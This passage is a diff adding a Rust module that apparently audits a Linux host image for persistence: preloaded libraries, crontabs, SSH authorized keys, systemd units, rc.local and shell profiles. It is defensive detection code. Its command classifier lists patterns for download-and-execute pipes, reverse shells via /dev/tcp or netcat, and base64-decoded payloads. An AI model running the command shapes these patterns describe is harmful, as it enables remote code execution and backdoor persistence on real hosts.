@@ -1,0 +1,1049 @@
+//! Persistence checks: `/etc/ld.so.preload`, crontabs, `authorized_keys` of every account,
+//! systemd units running from writable or temporary paths, `rc.local`, and shell profiles that
+//! fetch and run code.
+
+use crate::accounts::Accounts;
+use crate::util::{list_dir, pb, read_config};
+use ferret_core::{Control, ErrorRecord, Evidence, FileKind, Finding, HostRoot, Outcome, Severity};
+use sha2::Digest;
+use std::os::unix::ffi::OsStrExt;
+use std::path::{Path, PathBuf};
+
+// ---------------------------------------------------------------------------------------------
+// Command classification shared by cron, profiles, rc.local and systemd.
+
+/// What a command line does that persistence hunters care about.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
+#[cfg_attr(feature = "serde", derive(serde::Serialize))]
+#[non_exhaustive]
+pub enum Suspicion {
+    /// Downloads and executes (curl/wget piped to a shell, `sh -c "$(curl ..)"`), or opens a
+    /// reverse shell (`/dev/tcp/`, `nc -e`).
+    DownloadExec,
+    /// Decodes base64 (obfuscated payloads).
+    Base64,
+    /// Runs a program from /tmp, /var/tmp or /dev/shm.
+    TempPath,
+}
+
+fn contains(h: &[u8], n: &[u8]) -> bool {
+    h.windows(n.len()).any(|w| w == n)
+}
+
+const TEMP_DIRS: &[&[u8]] = &[b"/tmp/", b"/var/tmp/", b"/dev/shm/"];
+const WRAPPERS: &[&[u8]] = &[
+    b"nohup",
+    b"exec",
+    b"sudo",
+    b"nice",
+    b"setsid",
+    b"env",
+    b"sh",
+    b"bash",
+    b"dash",
+    b"zsh",
+    b"/bin/sh",
+    b"/bin/bash",
+    b"/usr/bin/sh",
+    b"/usr/bin/bash",
+    b"python",
+    b"python3",
+    b"perl",
+    b"/usr/bin/python3",
+    b"/usr/bin/perl",
+    b"timeout",
+    b"flock",
+    b"-c",
+    b"-n",
+];
+
+/// Classifies one shell command (a crontab command field, a script line, an ExecStart value).
+pub fn classify_command(cmd: &[u8]) -> Vec<Suspicion> {
+    let mut out = Vec::new();
+    let l = cmd.to_ascii_lowercase();
+    let fetch = [
+        &b"curl "[..],
+        b"curl\t",
+        b"wget ",
+        b"fetch ",
+        b"lwp-download",
+        b"tftp ",
+    ]
+    .iter()
+    .any(|n| contains(&l, n));
+    let to_shell = [
+        &b"|sh"[..],
+        b"| sh",
+        b"|bash",
+        b"| bash",
+        b"| /bin/sh",
+        b"| /bin/bash",
+        b"|/bin/sh",
+        b"|/bin/bash",
+        b"| python",
+        b"|python",
+        b"| perl",
+        b"|perl",
+        b"$(curl",
+        b"$(wget",
+        b"`curl",
+        b"`wget",
+        b"| sudo sh",
+        b"| sudo bash",
+        b"| zsh",
+        b"| dash",
+    ]
+    .iter()
+    .any(|n| contains(&l, n));
+    let fetch_then_run = fetch
+        && (contains(&l, b"chmod +x") || contains(&l, b"chmod 7") || contains(&l, b"chmod 5"))
+        && (contains(&l, b"&&") || contains(&l, b";"));
+    let revshell = contains(&l, b"/dev/tcp/")
+        || contains(&l, b"/dev/udp/")
+        || ((contains(&l, b"nc ") || contains(&l, b"ncat ") || contains(&l, b"netcat "))
+            && (contains(&l, b" -e ") || contains(&l, b" -c ")))
+        || (contains(&l, b"socket") && contains(&l, b"connect") && contains(&l, b"subprocess"));
+    if (fetch && to_shell) || fetch_then_run || revshell {
+        out.push(Suspicion::DownloadExec);
+    }
+    if [
+        &b"base64 -d"[..],
+        b"base64 --decode",
+        b"base64 -di",
+        b"base64 -D",
+        b"b64decode",
+        b"frombase64string",
+        b"openssl enc -d -base64",
+        b"openssl base64 -d",
+        b"base64 -id",
+    ]
+    .iter()
+    .any(|n| contains(&l, n))
+    {
+        out.push(Suspicion::Base64);
+    }
+    // The program position of each sub-command.
+    for seg in cmd.split(|c| matches!(c, b';' | b'&' | b'|' | b'`' | b'(' | b'\n')) {
+        let mut words = seg
+            .split(|c| c.is_ascii_whitespace() || matches!(c, b'"' | b'\''))
+            .filter(|w| !w.is_empty());
+        let prog = loop {
+            let Some(w) = words.next() else { break None };
+            if w.contains(&b'=') && !w.starts_with(b"/") {
+                continue;
+            }
+            if WRAPPERS.contains(&w) || w.first().is_some_and(u8::is_ascii_digit) {
+                continue;
+            }
+            break Some(w);
+        };
+        if let Some(p) = prog {
+            if TEMP_DIRS.iter().any(|t| p.starts_with(t)) {
+                if !out.contains(&Suspicion::TempPath) {
+                    out.push(Suspicion::TempPath);
+                }
+            }
+        }
+    }
+    out
+}
+
+// ---------------------------------------------------------------------------------------------
+// Crontabs.
+
+/// One suspicious crontab entry.
+#[derive(Debug, Clone, PartialEq, Eq)]
+#[non_exhaustive]
+pub struct CronHit {
+    /// 1-based line.
+    pub line: u64,
+    /// The command field.
+    pub command: Vec<u8>,
+    /// What it does.
+    pub what: Vec<Suspicion>,
+}
+
+/// Scans a crontab. `system` crontabs (`/etc/crontab`, `/etc/cron.d`) have a user field.
+/// Returns the suspicious entries and the malformed lines (line numbers).
+pub fn scan_crontab(data: &[u8], system: bool) -> (Vec<CronHit>, Vec<u64>) {
+    let mut hits = Vec::new();
+    let mut bad = Vec::new();
+    for (i, raw) in data.split(|&c| c == b'\n').enumerate() {
+        let line = i as u64 + 1;
+        let l = raw.trim_ascii();
+        if l.is_empty() || l.first() == Some(&b'#') {
+            continue;
+        }
+        // Environment assignment: NAME = value (name before the first blank or '=').
+        let first_word_end = l
+            .iter()
+            .position(|c| c.is_ascii_whitespace())
+            .unwrap_or(l.len());
+        if l.get(..first_word_end).is_some_and(|w| w.contains(&b'='))
+            || l.iter().position(|&c| c == b'=').is_some_and(|eq| {
+                l.get(..eq).is_some_and(|k| {
+                    k.trim_ascii()
+                        .iter()
+                        .all(|c| c.is_ascii_alphanumeric() || *c == b'_')
+                })
+            })
+        {
+            continue;
+        }
+        let fields_before = if l.first() == Some(&b'@') { 1 } else { 5 } + usize::from(system);
+        let mut rest = l;
+        let mut ok = true;
+        for _ in 0..fields_before {
+            let r = rest.trim_ascii_start();
+            match r.iter().position(|c| c.is_ascii_whitespace()) {
+                Some(p) => rest = r.get(p..).unwrap_or_default(),
+                None => {
+                    ok = false;
+                    break;
+                }
+            }
+        }
+        let command = rest.trim_ascii();
+        if !ok || command.is_empty() {
+            bad.push(line);
+            continue;
+        }
+        let what = classify_command(command);
+        if !what.is_empty() {
+            hits.push(CronHit {
+                line,
+                command: command.to_vec(),
+                what,
+            });
+        }
+    }
+    (hits, bad)
+}
+
+/// Scans a shell script (cron.daily job, profile, rc.local) line by line.
+pub fn scan_script(data: &[u8]) -> Vec<CronHit> {
+    data.split(|&c| c == b'\n')
+        .enumerate()
+        .filter_map(|(i, l)| {
+            let t = l.trim_ascii();
+            if t.is_empty() || t.first() == Some(&b'#') {
+                return None;
+            }
+            let what = classify_command(t);
+            (!what.is_empty()).then(|| CronHit {
+                line: i as u64 + 1,
+                command: t.to_vec(),
+                what,
+            })
+        })
+        .collect()
+}
+
+fn cron_finding(file: &Path, h: &CronHit, s: Suspicion, script: bool) -> Finding {
+    let (id, title, why, attack2) = match s {
+        Suspicion::DownloadExec => (
+            "persistence.cron-download-exec",
+            "scheduled job downloads and runs code (or opens a shell to the network)",
+            "Fetching a script and piping it to a shell on a schedule is the usual way miners and botnets re-infect a cleaned host.",
+            Some("T1105"),
+        ),
+        Suspicion::Base64 => (
+            "persistence.cron-base64",
+            "scheduled job decodes base64",
+            "Base64 in a scheduled job hides the real command from casual review; legitimate jobs rarely need it.",
+            Some("T1027"),
+        ),
+        Suspicion::TempPath => (
+            "persistence.cron-temp-path",
+            "scheduled job runs a program from a temporary directory",
+            "/tmp, /var/tmp and /dev/shm are writable by everyone; programs run from there are dropped payloads.",
+            None,
+        ),
+    };
+    let mut f = Finding::new(id, Severity::High, title, pb(file))
+        .with_evidence(Evidence::line(pb(file), h.line).with_excerpt(&h.command))
+        .with_detail(format!(
+            "{why} ({})",
+            if script { "script run by run-parts" } else { "crontab entry" }
+        ))
+        .with_remediation("Preserve the file, identify the payload it fetches or runs, then remove the entry (and the payload).")
+        .with_attack("T1053.003")
+        .with_reference("MITRE ATT&CK T1053.003 Scheduled Task/Job: Cron");
+    if let Some(a) = attack2 {
+        f = f.with_attack(a);
+    }
+    f
+}
+
+/// Crontab locations: (path or dir, is a directory, system crontab format, is a script dir).
+const CRON: &[(&str, bool, bool, bool)] = &[
+    ("/etc/crontab", false, true, false),
+    ("/etc/cron.d", true, true, false),
+    ("/etc/cron.hourly", true, false, true),
+    ("/etc/cron.daily", true, false, true),
+    ("/etc/cron.weekly", true, false, true),
+    ("/etc/cron.monthly", true, false, true),
+    ("/var/spool/cron/crontabs", true, false, false),
+    ("/var/spool/cron", true, false, false),
+];
+
+fn audit_cron(root: &HostRoot, out: &mut Outcome) {
+    for &(p, is_dir, system, script) in CRON {
+        let files: Vec<PathBuf> = if is_dir {
+            list_dir(root, p, out)
+                .into_iter()
+                .filter(|f| {
+                    // /var/spool/cron holds the crontabs dir (scanned on its own) and atjobs.
+                    let name = f.file_name().map(|n| n.as_bytes()).unwrap_or_default();
+                    !(p == "/var/spool/cron"
+                        && root.lstat(f).is_ok_and(|s| s.kind == FileKind::Directory))
+                        && name != b".placeholder"
+                        && !name.ends_with(b".dpkg-old")
+                })
+                .collect()
+        } else {
+            vec![PathBuf::from(p)]
+        };
+        for f in files {
+            let Some(buf) = read_config(root, &f, out) else {
+                continue;
+            };
+            if script {
+                for h in scan_script(&buf) {
+                    for s in &h.what {
+                        out.findings.push(cron_finding(&f, &h, *s, true));
+                    }
+                }
+            } else {
+                let (hits, bad) = scan_crontab(&buf, system);
+                for h in hits {
+                    for s in &h.what {
+                        out.findings.push(cron_finding(&f, &h, *s, false));
+                    }
+                }
+                for l in bad {
+                    out.errors.push(ErrorRecord::new(
+                        Some(pb(&f)),
+                        Some(l),
+                        "malformed crontab line (cron ignores it)",
+                    ));
+                }
+            }
+        }
+    }
+}
+
+// ---------------------------------------------------------------------------------------------
+// ld.so.preload.
+
+fn audit_preload(root: &HostRoot, out: &mut Outcome) {
+    let p = Path::new("/etc/ld.so.preload");
+    let Some(buf) = read_config(root, p, out) else {
+        return;
+    };
+    for (i, l) in buf.split(|&c| c == b'\n').enumerate() {
+        let t = l.trim_ascii();
+        if t.is_empty() || t.first() == Some(&b'#') {
+            continue;
+        }
+        for lib in t
+            .split(|c| c.is_ascii_whitespace() || *c == b':')
+            .filter(|x| !x.is_empty())
+        {
+            let exists = root.exists(Path::new(std::ffi::OsStr::from_bytes(lib)));
+            out.findings.push(
+                Finding::new("persistence.ld-so-preload", Severity::Critical, "library preloaded into every process", lib)
+                    .with_evidence(Evidence::line(pb(p), i as u64 + 1).with_excerpt(t))
+                    .with_detail(format!(
+                        "/etc/ld.so.preload makes the dynamic linker load this library into every dynamically linked program, including sshd and login: the classic user-land rootkit hook (hiding files, processes, stealing passwords). The library {}.",
+                        if exists { "exists in the image" } else { "is missing (a leftover or a hidden file)" }
+                    ))
+                    .with_remediation("Preserve the file and the library for analysis, then empty /etc/ld.so.preload (distributions do not ship it) from a trusted shell; assume the host is rooted.")
+                    .with_attack("T1574.006")
+                    .with_reference("MITRE ATT&CK T1574.006 Dynamic Linker Hijacking"),
+            );
+        }
+    }
+}
+
+// ---------------------------------------------------------------------------------------------
+// authorized_keys.
+
+/// One key of an authorized_keys file. Key material is never kept: only its type, its SHA-256
+/// fingerprint and its comment.
+#[derive(Debug, Clone, PartialEq, Eq)]
+#[cfg_attr(feature = "serde", derive(serde::Serialize))]
+#[non_exhaustive]
+pub struct AuthorizedKey {
+    /// 1-based line.
+    pub line: u64,
+    /// Options (`command="..."`, `from="..."`, `no-pty`), names lower-cased, values unquoted.
+    pub options: Vec<(String, Option<Vec<u8>>)>,
+    /// Key type (`ssh-ed25519`).
+    pub key_type: String,
+    /// `SHA256:...` fingerprint as `ssh-keygen -l` prints it (None when the blob is not base64).
+    pub fingerprint: Option<String>,
+    /// Comment.
+    pub comment: Vec<u8>,
+}
+
+impl AuthorizedKey {
+    /// The option value of `name`, if present.
+    pub fn option(&self, name: &str) -> Option<Option<&[u8]>> {
+        self.options
+            .iter()
+            .find(|(n, _)| n == name)
+            .map(|(_, v)| v.as_deref())
+    }
+
+    /// A printable description without key material: `type fingerprint comment`.
+    pub fn describe(&self) -> String {
+        format!(
+            "{} {} {}",
+            self.key_type,
+            self.fingerprint.as_deref().unwrap_or("(unparsable key)"),
+            ferret_core::escape::escape(&self.comment)
+        )
+        .trim_end()
+        .to_string()
+    }
+}
+
+fn is_key_type(t: &[u8]) -> bool {
+    t.starts_with(b"ssh-")
+        || t.starts_with(b"ecdsa-sha2-")
+        || t.starts_with(b"sk-ssh-")
+        || t.starts_with(b"sk-ecdsa-")
+        || t.starts_with(b"webauthn-")
+}
+
+fn b64_decode(s: &[u8]) -> Option<Vec<u8>> {
+    let mut out = Vec::with_capacity(s.len() * 3 / 4);
+    let mut acc = 0u32;
+    let mut n = 0;
+    for &c in s {
+        let v = match c {
+            b'A'..=b'Z' => c - b'A',
+            b'a'..=b'z' => c - b'a' + 26,
+            b'0'..=b'9' => c - b'0' + 52,
+            b'+' => 62,
+            b'/' => 63,
+            b'=' => break,
+            _ => return None,
+        };
+        acc = (acc << 6) | u32::from(v);
+        n += 6;
+        if n >= 8 {
+            n -= 8;
+            out.push((acc >> n) as u8);
+            acc &= (1 << n) - 1;
+        }
+    }
+    Some(out)
+}
+
+fn b64_encode_nopad(b: &[u8]) -> String {
+    const T: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+    let mut s = String::new();
+    for chunk in b.chunks(3) {
+        let v = chunk
+            .iter()
+            .enumerate()
+            .fold(0u32, |a, (i, &x)| a | (u32::from(x) << (16 - 8 * i)));
+        for i in 0..=chunk.len() {
+            let idx = ((v >> (18 - 6 * i)) & 63) as usize;
+            s.push(char::from(T.get(idx).copied().unwrap_or(b'A')));
+        }
+    }
+    s
+}
+
+/// Splits the options field off a line: returns (options, rest). Quotes may hold blanks.
+fn split_options(l: &[u8]) -> (Vec<(String, Option<Vec<u8>>)>, &[u8]) {
+    let mut opts = Vec::new();
+    let mut i = 0;
+    let mut quoted = false;
+    let mut start = 0;
+    let mut end = l.len();
+    while let Some(&c) = l.get(i) {
+        if c == b'\\' && quoted {
+            i += 2;
+            continue;
+        }
+        if c == b'"' {
+            quoted = !quoted;
+        } else if !quoted && c.is_ascii_whitespace() {
+            end = i;
+            break;
+        }
+        i += 1;
+    }
+    let field = l.get(..end).unwrap_or_default();
+    // Split the field on unquoted commas.
+    let mut q = false;
+    let mut j = 0;
+    while j <= field.len() {
+        let c = field.get(j).copied();
+        if c == Some(b'"') {
+            q = !q;
+        }
+        if (c == Some(b',') && !q) || c.is_none() {
+            let opt = field.get(start..j).unwrap_or_default();
+            if !opt.is_empty() {
+                let (name, val) = match opt.iter().position(|&c| c == b'=') {
+                    Some(p) => {
+                        let v = opt.get(p + 1..).unwrap_or_default();
+                        let v = v
+                            .strip_prefix(b"\"")
+                            .map(|v| v.strip_suffix(b"\"").unwrap_or(v))
+                            .unwrap_or(v);
+                        (opt.get(..p).unwrap_or_default(), Some(v.to_vec()))
+                    }
+                    None => (opt, None),
+                };
+                opts.push((String::from_utf8_lossy(name).to_ascii_lowercase(), val));
+            }
+            start = j + 1;
+        }
+        j += 1;
+    }
+    (opts, l.get(end..).unwrap_or_default().trim_ascii_start())
+}
+
+/// Parses an authorized_keys buffer; bad lines are `Err(line)`.
+pub fn parse_authorized_keys(data: &[u8]) -> Vec<Result<AuthorizedKey, u64>> {
+    let mut out = Vec::new();
+    for (i, raw) in data.split(|&c| c == b'\n').enumerate() {
+        let line = i as u64 + 1;
+        let l = raw.trim_ascii();
+        if l.is_empty() || l.first() == Some(&b'#') {
+            continue;
+        }
+        let first_end = l
+            .iter()
+            .position(|c| c.is_ascii_whitespace())
+            .unwrap_or(l.len());
+        let (options, rest) = if is_key_type(l.get(..first_end).unwrap_or_default()) {
+            (Vec::new(), l)
+        } else {
+            split_options(l)
+        };
+        let mut it = rest.splitn(3, |c| c.is_ascii_whitespace());
+        let (Some(kt), Some(blob)) = (it.next(), it.next()) else {
+            out.push(Err(line));
+            continue;
+        };
+        if !is_key_type(kt) {
+            out.push(Err(line));
+            continue;
+        }
+        let fingerprint = b64_decode(blob)
+            .filter(|d| !d.is_empty())
+            .map(|d| format!("SHA256:{}", b64_encode_nopad(&sha2::Sha256::digest(&d))));
+        out.push(Ok(AuthorizedKey {
+            line,
+            options,
+            key_type: String::from_utf8_lossy(kt).into_owned(),
+            fingerprint,
+            comment: it.next().unwrap_or_default().trim_ascii().to_vec(),
+        }));
+    }
+    out
+}
+
+fn expand_akf(pattern: &[u8], user: &[u8], home: &[u8], uid: u32) -> Vec<u8> {
+    let mut out = Vec::new();
+    let mut i = 0;
+    while let Some(&c) = pattern.get(i) {
+        if c == b'%' {
+            match pattern.get(i + 1) {
+                Some(b'h') => out.extend_from_slice(home),
+                Some(b'u') => out.extend_from_slice(user),
+                Some(b'U') => out.extend_from_slice(uid.to_string().as_bytes()),
+                Some(b'%') => out.push(b'%'),
+                Some(&o) => {
+                    out.push(b'%');
+                    out.push(o);
+                }
+                None => out.push(b'%'),
+            }
+            i += 2;
+            continue;
+        }
+        out.push(c);
+        i += 1;
+    }
+    if out.first() != Some(&b'/') {
+        let mut h = home.to_vec();
+        h.push(b'/');
+        h.extend_from_slice(&out);
+        out = h;
+    }
+    out
+}
+
+fn audit_authorized_keys(root: &HostRoot, accounts: &Accounts, out: &mut Outcome) {
+    // The files sshd reads, from the effective configuration (default .ssh/authorized_keys and
+    // .ssh/authorized_keys2).
+    let patterns: Vec<Vec<u8>> =
+        match crate::sshd::SshdConfig::load(root, crate::sshd::DEFAULT_CONFIG) {
+            Ok(c) => c
+                .effective(&crate::sshd::ConnectionContext::new())
+                .values("authorizedkeysfile"),
+            Err(_) => vec![
+                b".ssh/authorized_keys".to_vec(),
+                b".ssh/authorized_keys2".to_vec(),
+            ],
+        };
+    let mut seen_homes: Vec<(Vec<u8>, Vec<u8>)> = Vec::new();
+    for u in &accounts.users {
+        if u.home.first() != Some(&b'/')
+            || seen_homes.iter().any(|(h, n)| *h == u.home && *n == u.name)
+        {
+            continue;
+        }
+        seen_homes.push((u.home.clone(), u.name.clone()));
+        let mut files: Vec<Vec<u8>> = patterns
+            .iter()
+            .filter(|p| p.as_slice() != b"none")
+            .map(|p| expand_akf(p, &u.name, &u.home, u.uid))
+            .collect();
+        files.dedup();
+        let mut total = Vec::new();
+        for f in &files {
+            let fp = Path::new(std::ffi::OsStr::from_bytes(f));
+            let Some(buf) = read_config(root, fp, out) else {
+                continue;
+            };
+            let unusual_name = f.ends_with(b"authorized_keys2");
+            for k in parse_authorized_keys(&buf) {
+                let k = match k {
+                    Ok(k) => k,
+                    Err(line) => {
+                        out.errors.push(ErrorRecord::new(
+                            Some(f),
+                            Some(line),
+                            "unparsable authorized_keys line",
+                        ));
+                        continue;
+                    }
+                };
+                let ev = || Evidence::line(f, k.line).with_excerpt(k.describe());
+                let subject = format!("{} {}", ferret_core::escape::escape(&u.name), k.describe());
+                if let Some(cmd) = k.option("command") {
+                    out.findings.push(
+                        Finding::new("persistence.authorized-keys-forced-command", Severity::Medium, "SSH key with a forced command", subject.as_bytes())
+                            .with_evidence(ev())
+                            .with_detail(format!("command=\"{}\" runs on every login with this key; attackers use it to keep a backdoor that survives password resets (and legitimate backup/rsync keys use it too).", ferret_core::escape::escape(cmd.unwrap_or_default())))
+                            .with_remediation("Confirm who owns this key and what the command does; remove the key if unknown.")
+                            .with_attack("T1098.004"),
+                    );
+                }
+                if u.uid == 0 && k.option("from").is_none() {
+                    out.findings.push(
+                        Finding::new("persistence.authorized-keys-root-no-from", Severity::Medium, "root SSH key usable from anywhere", subject.as_bytes())
+                            .with_evidence(ev())
+                            .with_detail("A key in root's authorized_keys without a from= restriction gives whoever holds it root from any address.")
+                            .with_remediation("Remove keys nobody can vouch for; restrict the rest with from=\"admin-net/cidr\" (or disable root login).")
+                            .with_attack("T1098.004"),
+                    );
+                }
+                if unusual_name {
+                    out.findings.push(
+                        Finding::new("persistence.authorized-keys-unusual-file", Severity::High, "SSH key in authorized_keys2", subject.as_bytes())
+                            .with_evidence(ev())
+                            .with_detail("authorized_keys2 is deprecated but still read by default; keys planted there are missed by reviews of authorized_keys.")
+                            .with_remediation("Move legitimate keys to authorized_keys, delete authorized_keys2, and set `AuthorizedKeysFile .ssh/authorized_keys`.")
+                            .with_attack("T1098.004"),
+                    );
+                }
+                total.push((f.clone(), k));
+            }
+        }
+        // Key-like files sshd does not read (leftovers or staging).
+        let mut ssh_dir = u.home.clone();
+        ssh_dir.extend_from_slice(b"/.ssh");
+        let ssh_dir_p = Path::new(std::ffi::OsStr::from_bytes(&ssh_dir));
+        if let Ok(entries) = root.read_dir(ssh_dir_p) {
+            for e in entries {
+                let name = e.name.as_bytes();
+                let full = ssh_dir_p.join(&e.name);
+                if name.starts_with(b"authorized_keys")
+                    && !files.iter().any(|f| f.as_slice() == pb(&full))
+                {
+                    out.findings.push(
+                        Finding::new("persistence.authorized-keys-unusual-file", Severity::Medium, "authorized_keys-like file sshd does not read", pb(&full))
+                            .with_evidence(Evidence::file(pb(&full)))
+                            .with_detail("The name looks like an authorized_keys file but AuthorizedKeysFile does not name it: a backup, a staging copy, or a key waiting to be swapped in.")
+                            .with_remediation("Inspect it and remove it if not needed.")
+                            .with_attack("T1098.004"),
+                    );
+                }
+            }
+        }
+        if !total.is_empty() {
+            let mut f = Finding::new(
+                "persistence.authorized-keys-count",
+                Severity::Info,
+                format!("{} authorized SSH key(s)", total.len()),
+                &u.name,
+            )
+            .with_detail(
+                total
+                    .iter()
+                    .map(|(_, k)| k.describe())
+                    .collect::<Vec<_>>()
+                    .join("; "),
+            )
+            .with_attack("T1098.004");
+            for (file, k) in &total {
+                f = f.with_evidence(Evidence::line(file, k.line).with_excerpt(k.describe()));
+            }
+            out.findings.push(f);
+        }
+    }
+}
+
+// ---------------------------------------------------------------------------------------------
+// systemd units.
+
+/// Unit directories scanned for Exec lines.
+pub const UNIT_DIRS: &[&str] = &[
+    "/etc/systemd/system",
+    "/run/systemd/system",
+    "/usr/local/lib/systemd/system",
+    "/usr/lib/systemd/system",
+    "/lib/systemd/system",
+    "/etc/systemd/user",
+    "/usr/lib/systemd/user",
+];
+
+const EXEC_KEYS: &[&[u8]] = &[
+    b"ExecStart",
+    b"ExecStartPre",
+    b"ExecStartPost",
+    b"ExecStop",
+    b"ExecStopPost",
+    b"ExecReload",
+    b"ExecCondition",
+];
+
+fn writable_reason(root: &HostRoot, prog: &[u8]) -> Option<String> {
+    if TEMP_DIRS.iter().any(|t| prog.starts_with(t)) {
+        return Some("it lies in a world-writable temporary directory".into());
+    }
+    if prog.starts_with(b"/home/") {
+        return Some("it lies in a user's home directory".into());
+    }
+    let p = Path::new(std::ffi::OsStr::from_bytes(prog));
+    if let Ok(st) = root.lstat(p) {
+        if st.kind != FileKind::Symlink && st.is_world_writable() {
+            return Some(format!(
+                "the program is world-writable (mode {:04o})",
+                st.mode & 0o7777
+            ));
+        }
+    }
+    for d in p.ancestors().skip(1) {
+        if let Ok(st) = root.lstat(d) {
+            if st.kind == FileKind::Directory && st.is_world_writable() && !st.is_sticky() {
+                return Some(format!("{} is world-writable", d.display()));
+            }
+        }
+    }
+    None
+}
+
+fn scan_unit(root: &HostRoot, file: &Path, buf: &[u8], out: &mut Outcome) {
+    for (i, raw) in buf.split(|&c| c == b'\n').enumerate() {
+        let l = raw.trim_ascii();
+        let Some(eq) = l.iter().position(|&c| c == b'=') else {
+            continue;
+        };
+        let key = l.get(..eq).unwrap_or_default().trim_ascii();
+        if !EXEC_KEYS.contains(&key) {
+            continue;
+        }
+        let val = l.get(eq + 1..).unwrap_or_default().trim_ascii();
+        let cmd = val.trim_start_matches_compat();
+        let prog = cmd
+            .split(|c| c.is_ascii_whitespace())
+            .next()
+            .unwrap_or_default();
+        let mut reasons = Vec::new();
+        if let Some(r) = writable_reason(root, prog) {
+            reasons.push(r);
+        }
+        let what = classify_command(cmd);
+        if what.contains(&Suspicion::DownloadExec) {
+            reasons.push("the command downloads and runs code".into());
+        }
+        if what.contains(&Suspicion::Base64) {
+            reasons.push("the command decodes base64".into());
+        }
+        if what.contains(&Suspicion::TempPath) && !reasons.iter().any(|r| r.contains("temporary")) {
+            reasons.push("it runs a program from a temporary directory".into());
+        }
+        if reasons.is_empty() {
+            continue;
+        }
+        out.findings.push(
+            Finding::new("persistence.systemd-writable-exec", Severity::High, "systemd unit runs code from a writable or temporary location", pb(file))
+                .with_evidence(Evidence::line(pb(file), i as u64 + 1).with_excerpt(l))
+                .with_detail(format!("{}: whoever can write there controls what this unit runs (often as root, at every boot or timer tick).", reasons.join("; ")))
+                .with_remediation("Preserve the unit and the program; `systemctl disable --now` the unit if it is not legitimate, and move legitimate programs to a root-owned directory.")
+                .with_attack("T1543.002")
+                .with_reference("MITRE ATT&CK T1543.002 Create or Modify System Process: Systemd Service"),
+        );
+    }
+}
+
+trait TrimExecPrefix {
+    fn trim_start_matches_compat(&self) -> &[u8];
+}
+impl TrimExecPrefix for [u8] {
+    /// Drops systemd's special executable prefixes (`@`, `-`, `:`, `+`, `!`).
+    fn trim_start_matches_compat(&self) -> &[u8] {
+        let n = self
+            .iter()
+            .take_while(|c| matches!(c, b'@' | b'-' | b':' | b'+' | b'!'))
+            .count();
+        self.get(n..).unwrap_or_default()
+    }
+}
+
+fn is_unit_name(n: &[u8]) -> bool {
+    [&b".service"[..], b".timer", b".socket", b".path"]
+        .iter()
+        .any(|s| n.ends_with(s))
+}
+
+fn audit_systemd(root: &HostRoot, accounts: &Accounts, out: &mut Outcome) {
+    let mut dirs: Vec<PathBuf> = UNIT_DIRS.iter().map(PathBuf::from).collect();
+    for u in &accounts.users {
+        if u.home.first() == Some(&b'/') && u.home.len() > 1 {
+            let mut d = u.home.clone();
+            d.extend_from_slice(b"/.config/systemd/user");
+            let d = PathBuf::from(std::ffi::OsStr::from_bytes(&d));
+            if !dirs.contains(&d) {
+                dirs.push(d);
+            }
+        }
+    }
+    for d in dirs {
+        let entries = match root.read_dir(&d) {
+            Ok(e) => e,
+            Err(e) if e.is_not_found() => continue,
+            Err(e) => {
+                out.errors.push(crate::util::skipped(&e));
+                continue;
+            }
+        };
+        for e in entries {
+            let name = e.name.as_bytes();
+            let p = d.join(&e.name);
+            if e.kind == Some(FileKind::Symlink) {
+                continue; // aliases, enablement and masks; targets are scanned in their own dir
+            }
+            if name.ends_with(b".d") && e.kind != Some(FileKind::Regular) {
+                // Drop-ins.
+                if let Ok(sub) = root.read_dir(&p) {
+                    for s in sub {
+                        if s.name.as_bytes().ends_with(b".conf")
+                            && s.kind != Some(FileKind::Symlink)
+                        {
+                            let sp = p.join(&s.name);
+                            if let Some(buf) = read_config(root, &sp, out) {
+                                scan_unit(root, &sp, &buf, out);
+                            }
+                        }
+                    }
+                }
+                continue;
+            }
+            if !is_unit_name(name) {
+                continue;
+            }
+            if let Some(buf) = read_config(root, &p, out) {
+                scan_unit(root, &p, &buf, out);
+            }
+        }
+    }
+}
+
+// ---------------------------------------------------------------------------------------------
+// rc.local and shell profiles.
+
+fn audit_rc_local(root: &HostRoot, out: &mut Outcome) {
+    for p in ["/etc/rc.local", "/etc/rc.d/rc.local"] {
+        let p = Path::new(p);
+        let Some(buf) = read_config(root, p, out) else {
+            continue;
+        };
+        let cmds: Vec<(u64, &[u8])> = buf
+            .split(|&c| c == b'\n')
+            .enumerate()
+            .map(|(i, l)| (i as u64 + 1, l.trim_ascii()))
+            .filter(|(_, l)| !l.is_empty() && l.first() != Some(&b'#') && *l != b"exit 0")
+            .collect();
+        if cmds.is_empty() {
+            continue;
+        }
+        let hits = scan_script(&buf);
+        let sev = if hits.is_empty() {
+            Severity::Medium
+        } else {
+            Severity::High
+        };
+        let mut f = Finding::new("persistence.rc-local", sev, "rc.local runs commands at boot", pb(p))
+            .with_detail(format!(
+                "{} command line(s) run as root at every boot{}. rc.local is rarely used on systemd hosts and a common place for attacker start-up commands.",
+                cmds.len(),
+                if hits.is_empty() { "" } else { ", including downloads/decoding/temp-dir programs" }
+            ))
+            .with_remediation("Review every line; move legitimate commands to a systemd unit and empty rc.local.")
+            .with_attack("T1037.004")
+            .with_reference("MITRE ATT&CK T1037.004 Boot or Logon Initialization Scripts: RC Scripts");
+        for (l, c) in cmds.iter().take(20) {
+            f = f.with_evidence(Evidence::line(pb(p), *l).with_excerpt(c));
+        }
+        out.findings.push(f);
+    }
+}
+
+const SYSTEM_PROFILES: &[&str] = &[
+    "/etc/profile",
+    "/etc/bash.bashrc",
+    "/etc/bashrc",
+    "/etc/zsh/zshrc",
+    "/etc/zsh/zprofile",
+    "/etc/zshrc",
+    "/etc/bash.bash_logout",
+];
+const USER_PROFILES: &[&str] = &[
+    ".bashrc",
+    ".bash_profile",
+    ".bash_login",
+    ".profile",
+    ".bash_logout",
+    ".zshrc",
+    ".zprofile",
+    ".zlogin",
+];
+
+fn audit_profiles(root: &HostRoot, accounts: &Accounts, out: &mut Outcome) {
+    let mut files: Vec<PathBuf> = SYSTEM_PROFILES.iter().map(PathBuf::from).collect();
+    files.extend(
+        list_dir(root, "/etc/profile.d", out)
+            .into_iter()
+            .filter(|p| {
+                p.extension()
+                    .is_some_and(|e| e == "sh" || e == "zsh" || e == "csh")
+            }),
+    );
+    let mut homes: Vec<&[u8]> = Vec::new();
+    for u in &accounts.users {
+        if u.home.first() == Some(&b'/') && u.home.len() > 1 && !homes.contains(&u.home.as_slice())
+        {
+            homes.push(&u.home);
+        }
+    }
+    for h in homes {
+        for f in USER_PROFILES {
+            let mut p = h.to_vec();
